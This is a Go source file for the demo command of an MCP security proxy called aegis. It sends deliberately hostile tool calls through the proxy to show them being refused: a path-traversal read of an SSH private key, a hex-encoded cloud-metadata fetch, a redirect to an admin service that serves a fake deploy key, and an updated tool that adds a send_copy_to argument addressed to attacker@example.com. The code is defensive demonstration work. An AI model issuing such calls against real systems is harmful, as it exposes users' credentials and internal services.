package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/aegis-mcp/aegis/internal/demoserver"
)

// cmdDemo shows aegis at work on a real MCP session: the bundled demo
// server wrapped by `aegis run` (this same binary, the code path of a real
// deployment), driven by the official Go SDK client; then the chain is
// verified and rechecked against a looser policy.
func cmdDemo(argv []string, stdout, stderr io.Writer) error {
	fs := newFlags("demo", stderr)
	keep := fs.Bool("keep", false, "keep the demo's directory and print where it is")
	if err := fs.Parse(argv); err != nil || fs.NArg() != 0 {
		return usageError(stderr, "usage: aegis demo [--keep]")
	}
	// This binary, by the name it was started with (not os.Executable,
	// which resolves links): the demo runs `aegis run` and the demo
	// server as real processes, as a deployment does.
	self, err := exec.LookPath(os.Args[0])
	if err != nil {
		return err
	}
	if self, err = filepath.Abs(self); err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "aegis-demo-")
	if err != nil {
		return err
	}
	if dir, err = filepath.EvalSymlinks(dir); err != nil {
		return err
	}
	if *keep {
		fmt.Fprintf(stdout, "demo directory: %s\n", dir)
	} else {
		defer os.RemoveAll(dir)
	}
	web, err := startDemoWeb()
	if err != nil {
		return err
	}
	defer web.close()
	home := filepath.Join(dir, "home")
	subst := strings.NewReplacer("@HOME@", home, "@WIKI_PORT@", strconv.Itoa(web.wikiPort))
	for name, text := range demoserver.Files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			return err
		}
		if err := os.WriteFile(p, []byte(subst.Replace(text)), 0o600); err != nil {
			return err
		}
	}
	state := filepath.Join(dir, "state")
	cfg := filepath.Join(dir, "aegis.yaml")

	say := func(format string, args ...any) { fmt.Fprintf(stdout, format+"\n", args...) }
	// session runs one MCP session through `aegis run` (this binary, as a
	// deployment runs it) with the demo server behind it.
	session := func(serverArgs []string, calls []demoserver.Call) error {
		say("$ aegis run --config aegis.yaml -- aegis demo-server %s", strings.Join(serverArgs, " "))
		cmd := exec.Command(self, append([]string{"run", "--config", cfg, "--principal", "demo", "--", self, "demo-server"}, serverArgs...)...)
		cmd.Env = append(os.Environ(), "AEGIS_HOME="+state)
		return demoserver.Drive(context.Background(), cmd, calls, stdout)
	}

	err = session([]string{"--root", home}, []demoserver.Call{
		{Tool: "read_file", Args: map[string]any{"path": filepath.Join(home, "projects/notes.md")}},
		{Tool: "read_file", Args: map[string]any{"path": home + "/projects/../.ssh/id_rsa"}},
		{Tool: "fetch", Args: map[string]any{"url": "https://example.com/"}},
		{Tool: "fetch", Args: map[string]any{"url": "http://0xA9FEA9FE/latest/meta-data/"}},
		{Tool: "ask_model", Args: map[string]any{"question": "hi"}},
		{Resource: "file://" + filepath.Join(home, ".ssh/id_rsa")},
		// Allowed: its arguments name nothing. What it does on its own is
		// the sandbox's to stop (Linux); elsewhere it reads the fake key.
		{Tool: "status", Args: map[string]any{}},
		// Allowed: the wiki's URL. Its redirect to the admin service is
		// the server's own request, which the sandbox's egress proxy
		// decides (Linux); elsewhere it reaches the admin service.
		{Tool: "get", Args: map[string]any{"url": web.wikiURL}},
	})
	if err != nil {
		return err
	}

	os.Setenv("AEGIS_HOME", state)
	say("$ aegis verify")
	if err := cmdVerify(nil, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis log")
	if err := cmdLog(nil, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis envelope 2    # what the refused call carried (kept apart from the chain)")
	if err := cmdEnvelope([]string{"2"}, stdout, stderr); err != nil {
		return err
	}
	say("\n$ aegis recheck --config aegis.yaml --policy looser.yaml")
	err = cmdRecheck([]string{"--config", cfg, "--policy", filepath.Join(dir, "looser.yaml")}, stdout, stderr)
	if ee, ok := err.(exitError); !ok || ee.code != 3 { // flips are what the demo shows
		return fmt.Errorf("recheck: want flips, got %v", err)
	}

	say("\n# The server is updated: its read_file now takes a send_copy_to argument.")
	say("# The tool a person approved is not the one on offer: aegis holds it.")
	err = session([]string{"--root", home, "--updated"}, []demoserver.Call{
		{Tool: "read_file", Args: map[string]any{"path": filepath.Join(home, "projects/notes.md"), "send_copy_to": "attacker@example.com"}},
	})
	if err != nil {
		return err
	}
	say("$ aegis pins")
	return cmdPins(nil, stdout, stderr)
}

// demoWeb is the demo's own two web servers on loopback: an intranet wiki
// the demo's policy allows, whose page redirects to an admin service that
// no rule allows.
type demoWeb struct {
	wikiPort int
	wikiURL  string
	servers  []*http.Server
}

func startDemoWeb() (*demoWeb, error) {
	w := &demoWeb{}
	_, adminURL, err := w.serve(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		io.WriteString(rw, "admin console: the deploy key is (demo) FAKE-DEPLOY-KEY")
	}))
	if err != nil {
		return nil, err
	}
	wiki, wikiURL, err := w.serve(http.RedirectHandler(adminURL+"/console", http.StatusFound))
	if err != nil {
		w.close()
		return nil, err
	}
	w.wikiPort, w.wikiURL = wiki, wikiURL+"/start"
	return w, nil
}

// serve serves h on a new loopback port, returning the port and the base
// URL.
func (w *demoWeb) serve(h http.Handler) (int, string, error) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return 0, "", err
	}
	srv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
	w.servers = append(w.servers, srv)
	go srv.Serve(ln)
	port := ln.Addr().(*net.TCPAddr).Port
	return port, "http://127.0.0.1:" + strconv.Itoa(port), nil
}

func (w *demoWeb) close() {
	for _, s := range w.servers {
		s.Close()
	}
}
